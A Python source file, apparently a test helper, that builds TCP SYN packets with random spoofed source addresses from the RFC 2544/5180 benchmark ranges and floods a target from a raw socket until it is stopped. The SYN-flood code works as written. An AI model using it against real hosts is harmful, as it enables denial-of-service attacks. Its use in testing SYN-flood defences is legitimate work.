# SPDX-License-Identifier: Apache-2.0
"""SYNs from addresses that nobody has, written to the wire by a process of ours until it is told to
stop."""

import os
import random
import socket
import struct
import subprocess
import sys
from pathlib import Path


def _sum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _tcp(source, target, port):
    options = bytes.fromhex("020405b40402080a00112233000000000103030a")
    header = struct.pack(
        "!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0,
        (20 + len(options)) << 2, 2, 64240, 0, 0,
    )
    length = len(header) + len(options)
    pseudo = source + target + struct.pack("!II" if len(source) == 16 else "!HH",
                                           *((length, 6) if len(source) == 16 else (6, length)))
    check = _sum(pseudo + header + options)
    return header[:16] + struct.pack("!H", check) + header[18:] + options


def syn(target, port):
    """IP and TCP of one SYN, from a random address of a network for benchmarks (RFC 2544, 5180)."""
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    to = socket.inet_pton(family, target)
    if family == socket.AF_INET6:
        source = bytes.fromhex("20010002") + random.randbytes(12)
        tcp = _tcp(source, to, port)
        return struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + source + to + tcp
    source = bytes((198, 18 + random.randrange(2))) + random.randbytes(2)
    tcp = _tcp(source, to, port)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, to)
    return header[:10] + struct.pack("!H", _sum(header)) + header[12:] + tcp


class Wire:
    """An interface, from within its namespace; `gateway` is the MAC at the other end."""

    def __init__(self, device, gateway):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.socket.bind((device, 0))
        self._macs = bytes.fromhex(gateway.replace(":", "")) + self.socket.getsockname()[4]

    def frame(self, packet):
        kind = b"\x86\xdd" if packet[0] >> 4 == 6 else b"\x08\x00"
        return self._macs + kind + packet

    def send(self, frame):
        try:
            self.socket.send(frame)
        except OSError:
            pass  # no buffer: the wire is as full as can be

    def close(self):
        self.socket.close()


class Flood:
    """From within the namespace that it is made in, out of `device`."""

    def __init__(self, device, gateway, target, port):
        here = Path(__file__).resolve()
        self.process = subprocess.Popen(
            [sys.executable, "-B", str(here), device, gateway, target, str(port)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        )
        assert self.process.stdout.readline() == b"flooding\n"

    def close(self):
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()
        self.process.stdin.close()
        self.process.stdout.close()


def main():
    device, gateway, target, port = sys.argv[1:]
    wire = Wire(device, gateway)
    frames = [wire.frame(syn(target, int(port))) for _ in range(4096)]
    for frame in frames:
        wire.send(frame)
    os.write(1, b"flooding\n")
    while True:
        for frame in frames:
            wire.send(frame)


if __name__ == "__main__":
    main()
